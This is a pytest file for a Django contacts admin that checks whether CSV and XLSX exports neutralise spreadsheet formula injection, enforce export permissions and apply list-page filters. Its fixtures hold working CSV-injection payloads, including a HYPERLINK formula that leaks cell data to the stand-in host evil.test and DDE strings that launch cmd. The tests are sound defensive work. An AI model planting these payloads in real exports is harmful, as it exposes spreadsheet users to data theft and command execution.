"""Exports of contacts, outlets, lists and the suppression list: filtered like the list page,
behind their own permission, and safe to open in a spreadsheet. A cell that starts with = + - @,
a tab or a carriage return never runs as a formula, in CSV or XLSX, and numbers and dates stay
typed in XLSX. A formula-looking value survives the trip out and back in unchanged."""

import csv
import io
from datetime import datetime, timedelta
from typing import Any

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from contacts.models import DistributionList, MediaContact, Suppression
from contacts.resources import DistributionListResource, OutletResource, SuppressionResource
from contacts.services import contacts_import
from tests.contacts.conftest import client_for
from tests.contacts.spreadsheets import csv_bytes
from tests.factories import MediaContactFactory, OutletFactory, SuppressionFactory

pytestmark = pytest.mark.django_db

EXPORT_URL = reverse("admin:contacts_mediacontact_export")
PAYLOADS = {
    "hyperlink@evil.test": '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
    "cmd@evil.test": "+cmd|' /C calc'!A0",
    "arith@evil.test": "-1+1",
    "sum@evil.test": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab@evil.test": "\t=1+2",
    "cr@evil.test": "\r=1+2",
}


def export(client: Any, file_format: str, query: str = "") -> Any:
    fields = ["id", "email", "name_en", "job_title", "notes", "created_at", "lists"]
    data = {"format": {"csv": "0", "xlsx": "1"}[file_format], "resource": "0"}
    data |= {f"mediacontactresource_{name}": "on" for name in fields}
    return client.post(EXPORT_URL + query, data)


def every_field(resource: Any, *, file_format: str) -> dict[str, str]:
    prefix = resource.__name__.lower()
    fields = {f"{prefix}_{name}": "on" for name in resource().get_export_order()}
    return {"format": file_format, "resource": "0", **fields}


def csv_rows(response: Any) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff"), "Excel needs the BOM to read Chinese from a CSV"
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.fixture
def payload_contacts(alice: Any) -> None:
    """Formula payloads arrive as text in an agency's CSV, in names, job titles and notes."""
    rows = [["Email", "Name", "Job title", "Notes"]]
    rows += [[email, payload, payload, payload] for email, payload in PAYLOADS.items()]
    report = contacts_import(data=csv_bytes(rows), file_name="evil.csv", by=alice, dry_run=False)
    assert report["counts"]["new"] == len(PAYLOADS)


@pytest.mark.usefixtures("payload_contacts")
def test_formula_payloads_come_out_of_a_csv_export_as_text(alice: Any) -> None:
    response = export(client_for(alice), "csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    header, *rows = csv_rows(response)
    assert header == ["ID", "Email", "Name (English)", "Job title", "Lists", "Notes", "Created"]
    by_email = {row[1]: row for row in rows}
    stored = {contact.email: contact.name_en for contact in MediaContact.objects.all()}
    for email, name in stored.items():
        row = by_email[email]
        assert row[2] == "'" + name, "a leading apostrophe makes a spreadsheet show text"
        assert row[3] == row[5] == row[2]
        assert row[0] == str(MediaContact.objects.get(email=email).pk)
    # The tab- and CR-prefixed payloads were trimmed as they came in; what is stored and exported
    # still starts with "=", and is neutralised.
    assert by_email["tab@evil.test"][2] == "'=1+2"


@pytest.mark.usefixtures("payload_contacts")
def test_a_csv_export_imported_again_changes_nothing(alice: Any) -> None:
    exported = export(client_for(alice), "csv").content

    report = contacts_import(data=exported, file_name="export.csv", by=alice, dry_run=True)

    assert report["counts"] == report["counts"] | {"new": 0, "updated": 0, "invalid": 0}
    assert report["counts"]["unchanged"] == len(PAYLOADS)
    assert report["kept"] == []  # the apostrophes came off again: values are identical


@pytest.mark.usefixtures("payload_contacts")
def test_an_xlsx_export_holds_text_never_formulas_and_typed_numbers_and_dates(
    alice: Any, park_list: DistributionList
) -> None:
    park_list.members.set(MediaContact.objects.all())
    response = export(client_for(alice), "xlsx")

    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook.active
    assert sheet is not None
    header, *rows = list(sheet.iter_rows())
    assert [cell.value for cell in header] == [
        "ID", "Email", "Name (English)", "Job title", "Lists", "Notes", "Created",
    ]  # fmt: skip
    assert all(cell.data_type != "f" for row in rows for cell in row), "no formula cells"
    for row in rows:
        contact = MediaContact.objects.get(email=row[1].value)
        assert row[0].data_type == "n"
        assert row[0].value == contact.pk
        for cell in (row[2], row[3], row[5]):
            assert cell.data_type == "s"
            assert cell.value == contact.name_en  # the exact text, nothing added
            assert cell.quotePrefix, "Excel keeps a quote-prefixed cell as text even when edited"
        assert row[4].value == "Technology desk"
        assert isinstance(row[6].value, datetime)
        assert row[6].number_format == 'yyyy-mm-dd hh:mm "HKT"'
        local = timezone.localtime(contact.created_at).replace(tzinfo=None)
        assert abs(row[6].value - local) < timedelta(seconds=1)


def test_export_needs_its_own_permission(bob: Any, vera: Any) -> None:
    """The approver and the viewer read the contacts; neither role may take them away."""
    MediaContactFactory.create()
    for user in (bob, vera):
        client = client_for(user)
        assert client.get(EXPORT_URL).status_code == 403
        assert export(client, "csv").status_code == 403
        changelist = client.get(reverse("admin:contacts_mediacontact_changelist")).content
        assert EXPORT_URL.encode() not in changelist


def test_an_export_is_filtered_like_the_list_page(alice: Any) -> None:
    daily = OutletFactory.create(name_en="Harbour Daily", name_zh_hant="港灣日報")
    MediaContactFactory.create(email="a@daily.example.com", outlet=daily, name_zh_hant="陳大文")
    MediaContactFactory.create(email="b@tv.example.com", name_zh_hant="李小明")
    MediaContactFactory.create(
        email="c@daily.example.com", outlet=daily, status=MediaContact.Status.UNSUBSCRIBED
    )
    client = client_for(alice)

    by_outlet = csv_rows(export(client, "csv", "?q=港灣日報"))[1:]
    assert sorted(row[1] for row in by_outlet) == ["a@daily.example.com", "c@daily.example.com"]
    active = csv_rows(export(client, "csv", "?q=港灣日報&status__exact=active"))[1:]
    assert [row[1] for row in active] == ["a@daily.example.com"]
    by_name = csv_rows(export(client, "csv", "?q=李小明"))[1:]
    assert [row[1] for row in by_name] == ["b@tv.example.com"]


def test_an_agency_export_names_only_the_agencys_lists(
    charlie: Any, park_list: DistributionList, agency_list: DistributionList
) -> None:
    contact = MediaContactFactory.create()
    park_list.members.add(contact)
    agency_list.members.add(contact)

    rows = csv_rows(export(client_for(charlie), "csv"))

    assert rows[1][4] == "Lantern fintech writers"


def test_lists_outlets_and_the_suppression_list_export_with_typed_counts(
    alice: Any, park_list: DistributionList
) -> None:
    park_list.members.set([MediaContactFactory.create(), MediaContactFactory.create()])
    SuppressionFactory.create(email="=cmd@evil.test", reason=Suppression.Reason.COMPLAINT)
    client = client_for(alice)

    lists = client.post(
        reverse("admin:contacts_distributionlist_export"),
        every_field(DistributionListResource, file_format="1"),
    )
    sheet = openpyxl.load_workbook(io.BytesIO(lists.content)).active
    assert sheet is not None
    header, row = [[cell.value for cell in cells] for cells in sheet.iter_rows()]
    assert row[header.index("Name")] == "Technology desk"
    assert row[header.index("Static members")] == 2
    assert row[header.index("Members now")] == 2
    assert row[header.index("Trusted for embargo")] is False

    outlets = client.post(
        reverse("admin:contacts_outlet_export"), every_field(OutletResource, file_format="1")
    )
    sheet = openpyxl.load_workbook(io.BytesIO(outlets.content)).active
    assert sheet is not None
    header, *rows = [[cell.value for cell in cells] for cells in sheet.iter_rows()]
    counts = {
        row[header.index("Name (English)")]: row[header.index("Media contacts")] for row in rows
    }
    assert sorted(counts.values()) == [1, 1]  # each factory contact has an outlet of its own

    suppressions = client.post(
        reverse("admin:contacts_suppression_export"),
        every_field(SuppressionResource, file_format="0"),
    )
    assert csv_rows(suppressions)[1][:2] == ["'=cmd@evil.test", "Spam complaint"]
